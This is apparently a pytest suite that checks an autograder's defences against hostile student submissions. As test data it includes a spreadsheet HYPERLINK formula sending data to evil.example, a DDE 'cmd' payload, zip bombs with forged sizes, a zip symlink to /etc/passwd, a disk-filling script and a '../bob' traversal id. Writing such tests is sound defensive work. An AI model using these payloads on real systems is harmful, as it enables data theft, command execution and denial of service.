"""Hostile or awkward *inputs* to the grading command (issue "Grading security, round 2"):
CSV formula injection through exception names, zip bombs and oversized notebooks, scratch
folders left behind (disk fillers, unreadable folders), symlinked student folders and
notebooks, running without an activated virtual environment, and statuses as an enum.

One module-scoped batch grades the folder submissions below once (``max_notebook_mb=1``);
the zip and command-line tests grade their own small batches."""

from __future__ import annotations

import csv
import os
import pathlib
import re
import shutil
import struct
import subprocess
import sys
import zipfile

import nbformat
import pytest

from autograder import files, intake, results
from autograder import grade as grading

ROOT = pathlib.Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures"
SOURCE = FIXTURES / "source"

sys.path.insert(0, str(FIXTURES))
import make_submissions  # noqa: E402

pytestmark = pytest.mark.slow
OPTIONS = dict(timeout=10, memory_mb=2048, cpu_seconds=120, student_timeout=300)
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"rt")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
MB = 1024 * 1024

EVIL_SOFTMAX = ("class Evil(Exception):\n    pass\n"
                f"Evil.__name__ = Evil.__qualname__ = {FORMULA!r}\n"
                "def softmax(z):\n    raise Evil('clicked')")
DISK_FILLER = ("import os\n"
               "with open('filler.bin', 'wb') as fh:\n"
               "    for _ in range(50):\n"
               "        fh.write(b'x' * 2**20)\n"
               "os.makedirs('locked/deeper', exist_ok=True)\n"
               "with open('locked/deeper/kept.txt', 'w') as fh:\n"
               "    fh.write('try to remove me')\n"
               "os.chmod('locked/deeper', 0)\n"
               "os.chmod('locked', 0)")


def write_nb(path: pathlib.Path, nb) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(nbformat.writes(nb) + "\n")


def read_breakdown(out):
    with open(out / "breakdown.csv", newline="") as fh:
        return list(csv.DictReader(fh))


def read_grades(out):
    with open(out / "grades.csv", newline="") as fh:
        return {r["student_id"]: r for r in csv.DictReader(fh)}


def csv_fields(path):
    with open(path, newline="") as fh:
        return [field for row in csv.reader(fh) for field in row]


def tree_bytes(path: pathlib.Path) -> int:
    return sum(p.lstat().st_size for p in path.rglob("*") if not p.is_symlink() and p.is_file())


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    base = tmp_path_factory.mktemp("inputs")
    subs, out = base / "submissions", base / "out"
    write_nb(subs / "correct" / "99_fixture.ipynb", make_submissions.filled())
    write_nb(subs / "evil_csv" / "99_fixture.ipynb", make_submissions.filled(ex_softmax=EVIL_SOFTMAX))
    write_nb(subs / "disk_filler" / "99_fixture.ipynb",
             make_submissions.insert_after(make_submissions.filled(), "ex_softmax", DISK_FILLER))
    big = make_submissions.filled()
    big.cells.append(nbformat.v4.new_markdown_cell("padding " * (MB // 4)))  # 2 MB of text
    write_nb(subs / "too_big" / "99_fixture.ipynb", big)
    (subs / "linked_master").symlink_to(SOURCE / "99_fixture", target_is_directory=True)
    (subs / "linked_peer").symlink_to(subs / "correct", target_is_directory=True)
    (subs / "linked_notebook").mkdir()
    (subs / "linked_notebook" / "99_fixture.ipynb").symlink_to(subs / "correct" / "99_fixture.ipynb")
    opts = grading.GradeOptions(**OPTIONS, max_notebook_mb=1)
    assert grading.grade("99_fixture", subs, out, source_dir=SOURCE, options=opts) == 0
    return {"base": base, "subs": subs, "out": out}


# --------------------------------------------------------------------------- A. CSV formula injection

def test_exception_name_cannot_inject_a_formula_into_the_csvs(batch):
    rows = [r for r in read_breakdown(batch["out"]) if r["student_id"] == "evil_csv"]
    softmax = next(r for r in rows if r["cell"] == "test_softmax")
    assert softmax["status"] == "failed" and softmax["points"] == "0"
    assert softmax["reason"].startswith("'" + FORMULA), softmax["reason"]
    for name in ("breakdown.csv", "grades.csv"):
        bad = [f for f in csv_fields(batch["out"] / name) if f.startswith(DANGEROUS)]
        assert not bad, f"{name}: fields a spreadsheet would run as formulas: {bad[:3]}"
    grades = read_grades(batch["out"])
    assert float(grades["correct"]["score"]) == 4.0, "numbers stay numbers"


def test_grades_csv_rewrite_keeps_columns_and_neutralises_every_field(tmp_path):
    path = tmp_path / "grades.csv"
    path.write_text("assignment,student_id,last_name,raw_score,score\n"
                    "a1,bob,=cmd|' /C calc'!A0,3.5,3.5\n"
                    "a1,carol,@SUM(1+1),-1,\t2\n")
    results.neutralise_csv(path)
    with open(path, newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["assignment", "student_id", "last_name", "raw_score", "score"]
    assert rows[1] == ["a1", "bob", "'=cmd|' /C calc'!A0", "3.5", "3.5"]
    assert rows[2] == ["a1", "carol", "'@SUM(1+1)", "'-1", "'\t2"]


# --------------------------------------------------------------------------- B. zip bombs, big notebooks

def zeros_zip(path: pathlib.Path, members: dict[str, bytes | int]) -> pathlib.Path:
    """A zip whose int-valued members are that many zero bytes (DEFLATE: ~1000x smaller)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            if isinstance(data, int):
                with zf.open(name, "w") as fh:
                    for _ in range(data // MB):
                        fh.write(bytes(MB))
            else:
                zf.writestr(name, data)
    return path


def correct_text() -> str:
    return nbformat.writes(make_submissions.filled()) + "\n"


def test_zip_bomb_is_refused_before_anything_large_is_written(tmp_path):
    archive = zeros_zip(tmp_path / "bomb.zip", {"hand-ins/alice/99_fixture.ipynb": correct_text(),
                                                "hand-ins/mallory/99_fixture.ipynb": 20 * MB})
    assert archive.stat().st_size < MB
    out = tmp_path / "out"
    opts = grading.GradeOptions(**OPTIONS, max_notebook_mb=1)
    with pytest.raises(grading.GradeError) as info:
        grading.grade("99_fixture", archive, out, source_dir=SOURCE, options=opts)
    message = str(info.value)
    assert "hand-ins/mallory/99_fixture.ipynb" in message and "1 MB" in message and "--max-notebook-mb" in message
    incoming = out / "_nbgrader" / "incoming"
    assert not incoming.exists() or tree_bytes(incoming) == 0, "nothing partial is left behind"
    assert tree_bytes(out) < MB, "nothing large was written"


def test_zip_limits_total_ratio_and_lying_sizes(tmp_path):
    dest = tmp_path / "dest"
    limits = dict(max_member_bytes=50 * MB, max_total_bytes=2048 * MB, max_ratio=200)
    # Compression ratio: 5 MB of zeros is under every size cap but ~1000:1.
    archive = zeros_zip(tmp_path / "ratio.zip", {"bob/99_fixture.ipynb": 5 * MB})
    dest.mkdir()
    with pytest.raises(grading.GradeError, match=r"bob/99_fixture.ipynb.*compress.*200"):
        intake.safe_extract(archive, dest, **limits)
    assert not dest.exists() or tree_bytes(dest) == 0
    # Total cap: three 3 MB notebooks of text against a 8 MB total.
    text = os.urandom(3 * MB // 2).hex()
    archive = zeros_zip(tmp_path / "total.zip", {f"s{i}/99_fixture.ipynb": text for i in range(3)})
    dest.mkdir(exist_ok=True)
    with pytest.raises(grading.GradeError, match=r"8 MB.*--max-total-mb"):
        intake.safe_extract(archive, dest, **dict(limits, max_total_bytes=8 * MB))
    assert not dest.exists() or tree_bytes(dest) == 0
    # Declared sizes that lie: the directory says 1000 bytes, the stream holds 20 MB.
    archive = zeros_zip(tmp_path / "liar.zip", {"eve/99_fixture.ipynb": 20 * MB})
    raw = bytearray(archive.read_bytes())
    local, central = raw.find(b"PK\x03\x04"), raw.find(b"PK\x01\x02")
    struct.pack_into("<I", raw, local + 22, 1000)
    struct.pack_into("<I", raw, central + 24, 1000)
    archive.write_bytes(bytes(raw))
    dest.mkdir(exist_ok=True)
    with pytest.raises(grading.GradeError, match="eve/99_fixture.ipynb"):
        intake.safe_extract(archive, dest, **dict(limits, max_member_bytes=MB))
    assert not dest.exists() or tree_bytes(dest) == 0


def test_zip_extracts_only_notebooks_and_incoming_is_removed(tmp_path):
    archive = tmp_path / "hand-ins.zip"
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("hand-ins/alice/99_fixture.ipynb", correct_text())
        zf.writestr("hand-ins/alice/data.bin", os.urandom(1000))
        zf.writestr("hand-ins/alice/run.sh", "#!/bin/sh\necho hi\n")
        link = zipfile.ZipInfo("hand-ins/alice/peek")
        link.external_attr = (0o120777 << 16)
        zf.writestr(link, "/etc/passwd")
    dest = tmp_path / "dest"
    dest.mkdir()
    report = intake.safe_extract(archive, dest, max_member_bytes=MB, max_total_bytes=10 * MB, max_ratio=200)
    files = sorted(str(p.relative_to(dest)) for p in dest.rglob("*") if not p.is_dir())
    assert files == ["hand-ins/alice/99_fixture.ipynb"]
    assert report["skipped"] == 3
    out = tmp_path / "out"
    assert grading.grade("99_fixture", archive, out, source_dir=SOURCE, options=grading.GradeOptions(**OPTIONS)) == 0
    assert float(read_grades(out)["alice"]["score"]) == 4.0
    assert re.search(r"skipped 3 .*not notebooks", (out / "grading.log").read_text())
    assert not (out / "_nbgrader" / "incoming").exists(), "the extracted zip stays behind"


def test_oversized_notebook_in_a_folder_is_refused_for_that_student(batch):
    rows = [r for r in read_breakdown(batch["out"]) if r["student_id"] == "too_big"]
    assert rows and all(r["status"] == "refused" and r["points"] in ("0", "") for r in rows), rows
    reason = rows[0]["reason"]
    assert "2.0 MB" in reason and "1 MB" in reason and "--max-notebook-mb" in reason, reason


# --------------------------------------------------------------------------- C. scratch left behind

def test_scratch_is_removed_after_each_student_and_logged(batch):
    out = batch["out"]
    scratch = out / "_nbgrader" / "scratch"
    assert not (scratch / "disk_filler").exists(), "the disk filler's scratch is still there"
    assert not scratch.exists() or not any(scratch.iterdir()), sorted(p.name for p in scratch.iterdir())
    log = (out / "grading.log").read_text()
    found = re.search(r"disk_filler: removed scratch \(([\d.]+) MB, (\d+) files\)", log)
    assert found, "grading.log does not say how much was removed"
    assert float(found.group(1)) >= 50.0 and int(found.group(2)) >= 2
    assert re.search(r"correct: removed scratch \(", log)
    # Feedback pages carry their own MathJax (about 2 MB each, so they render offline): not counted.
    pages = sum(p.stat().st_size for p in out.rglob("*.html"))
    kept = tree_bytes(out) - pages
    assert kept < 10 * MB, f"OUT keeps {kept} bytes besides its pages: what the disk filler wrote?"
    rows = {r["cell"]: r for r in read_breakdown(out) if r["student_id"] == "disk_filler"}
    assert rows["test_softmax"]["status"] == "passed", "writing files does not cost points"


def test_remove_tree_handles_unreadable_folders_of_another_user(tmp_path):
    """The sandbox may run kernels as nobody, who can chmod 000 its folders: removal as that
    user (and as root) still works and counts what it removed."""
    import pwd
    import tempfile
    if os.geteuid() != 0:
        pytest.skip("needs root to act as another user")
    nobody = pwd.getpwnam("nobody")
    top = pathlib.Path(tempfile.mkdtemp(prefix="ag-rm-"))
    try:
        (top / "a" / "b").mkdir(parents=True)
        (top / "a" / "b" / "f.bin").write_bytes(bytes(3000))
        (top / "g.txt").write_text("hello")
        for p in [top, *top.rglob("*")]:
            os.chown(p, nobody.pw_uid, nobody.pw_gid)
        (top / "a" / "b").chmod(0)
        (top / "a").chmod(0)
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:  # the child: become nobody and remove the tree
            code = 1
            try:
                os.close(r)
                os.setgroups([])
                os.setgid(nobody.pw_gid)
                os.setuid(nobody.pw_uid)
                removed = files.remove_tree(top)
                os.write(w, repr(removed).encode())
                code = 0
            except BaseException as exc:  # noqa: BLE001
                os.write(w, repr(exc).encode())
            finally:
                os._exit(code)
        os.close(w)
        with os.fdopen(r) as fh:
            said = fh.read()
        _, status = os.waitpid(pid, 0)
        assert os.waitstatus_to_exitcode(status) == 0, said
        assert not top.exists()
        assert said == repr((3005, 2)), said
    finally:
        if top.exists():
            for p in [top, *top.rglob("*")]:
                p.chmod(0o700)
            shutil.rmtree(top)


# --------------------------------------------------------------------------- D. symbolic links

def test_symlinked_folders_and_notebooks_are_refused(batch):
    rows = read_breakdown(batch["out"])
    for student in ("linked_master", "linked_peer", "linked_notebook"):
        mine = [r for r in rows if r["student_id"] == student]
        assert mine, f"{student} has no rows"
        assert all(r["status"] == "refused" and r["points"] in ("0", "") for r in mine), \
            [(r["cell"], r["points"], r["status"], r["reason"]) for r in mine]
        assert all("symbolic link" in r["reason"] for r in mine), mine[0]["reason"]
    assert "->" in next(r for r in rows if r["student_id"] == "linked_peer")["reason"]
    correct = [r for r in rows if r["student_id"] == "correct"]
    assert len(correct) == 4, "the correct submission is graded exactly once (4 graded cells)"
    assert all(r["status"] in ("passed", "manual") for r in correct)
    grades = read_grades(batch["out"])
    assert float(grades["correct"]["score"]) == 4.0
    for student in ("linked_master", "linked_peer", "linked_notebook"):
        assert float(grades[student]["score"]) == 0.0, student
    assert not (batch["out"] / "_nbgrader" / "submitted" / "linked_peer" / "99_fixture" / "99_fixture.ipynb").exists()


# --------------------------------------------------------------------------- E. no activated venv

def test_runs_from_a_python_whose_bin_folder_is_not_on_path(tmp_path):
    path = "/usr/bin:/bin"
    if shutil.which("alembic", path=path):
        pytest.skip(f"alembic is on {path}; this test needs a PATH without it")
    subs, out = tmp_path / "subs", tmp_path / "out"
    write_nb(subs / "correct" / "99_fixture.ipynb", make_submissions.filled())
    env = dict(os.environ, PATH=path)
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", "99_fixture", str(subs), "--out", str(out),
                           "--source", str(SOURCE), "--timeout", "10", "--memory", "2048", "--cpu", "120"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, (proc.stdout + proc.stderr)[-3000:]
    assert float(read_grades(out)["correct"]["score"]) == 4.0


# --------------------------------------------------------------------------- F. statuses as an enum

def test_statuses_are_an_enum_with_the_csv_values(batch, tmp_path):
    from autograder.status import Status
    assert issubclass(Status, str)
    assert {s.value for s in Status} == {"passed", "failed", "timeout", "kernel-died", "tampered",
                                         "corrupt notebook", "missing", "refused", "error", "manual"}
    assert Status.KERNEL_DIED == "kernel-died" and Status.CORRUPT.value == "corrupt notebook"
    statuses = {r["status"] for r in read_breakdown(batch["out"])}
    assert statuses <= {s.value for s in Status} and "refused" in statuses
    empty = tmp_path / "empty"
    empty.mkdir()
    problems = intake.stage(empty, ["99_fixture"], tmp_path / "staged", max_notebook_bytes=MB)
    status, reason = problems["99_fixture"]
    assert status is Status.MISSING and "no 99_fixture.ipynb" in reason
    assert not reason.startswith("missing:"), "the status travels as the enum, not inside the message"


# --------------------------------------------------------------------------- G. one OUT per assignment

def test_an_out_folder_holds_one_assignment(tmp_path):
    """A persistent OUT keeps one assignment's gradebook: grading another assignment into it is
    refused before anything is written, and so is an invalid --student id."""
    subs = tmp_path / "subs" / "alice"
    subs.mkdir(parents=True)
    out = tmp_path / "out"
    (out / "_nbgrader").mkdir(parents=True)
    (out / "_nbgrader" / "assignment.txt").write_text("00_getting_started\n")
    with pytest.raises(grading.GradeError, match="holds the grades of '00_getting_started'"):
        grading.grade("99_fixture", subs.parent, out, source_dir=SOURCE, options=grading.GradeOptions(**OPTIONS))
    with pytest.raises(grading.GradeError, match="not a valid student id"):
        grading.grade("99_fixture", subs.parent, tmp_path / "out2", source_dir=SOURCE, students=["../bob"],
                      options=grading.GradeOptions(**OPTIONS))
    assert not (tmp_path / "out2").exists()
    with pytest.raises(grading.GradeError, match="no graded batch"):
        grading.export_results(tmp_path / "nothing")
